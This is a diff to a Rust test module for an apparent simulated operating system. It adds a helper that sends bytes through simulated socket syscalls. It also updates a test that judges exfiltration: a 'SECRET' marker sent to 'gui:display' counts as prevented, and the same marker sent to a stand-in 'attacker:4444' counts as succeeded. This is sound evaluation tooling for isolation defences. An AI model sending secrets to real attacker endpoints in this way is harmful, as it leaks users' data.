@@ -124,6 +124,17 @@ mod tests {
         (k, ObjectStore::new(), host)
     }
 
+    /// Sends `bytes` to `dest` from `pid` through a fresh socket.
+    fn send(k: &mut Kernel, pid: Pid, dest: &str, bytes: &[u8]) {
+        use freepart_simos::{Syscall, SyscallRet};
+        let Ok(SyscallRet::NewFd(fd)) = k.syscall(pid, Syscall::Socket) else {
+            panic!("socket refused");
+        };
+        let dest = dest.to_owned();
+        let bytes = bytes.to_vec();
+        k.syscall(pid, Syscall::Sendto { fd, dest, bytes }).unwrap();
+    }
+
     #[test]
     fn corruption_judged_by_bytes() {
         let (mut k, mut store, host) = setup();
@@ -158,12 +169,12 @@ mod tests {
     #[test]
     fn exfiltration_ignores_gui_traffic() {
         let (mut k, store, host) = setup();
-        k.network.record(host.0, "gui:display", b"SECRET");
+        send(&mut k, host, "gui:display", b"SECRET");
         let goal = AttackGoal::Exfiltrate {
             marker: b"SECRET".to_vec(),
         };
         assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Prevented);
-        k.network.record(host.0, "attacker:4444", b"xxSECRETxx");
+        send(&mut k, host, "attacker:4444", b"xxSECRETxx");
         assert_eq!(judge(&goal, &mut k, &store, host, &[]), Verdict::Succeeded);
     }
 
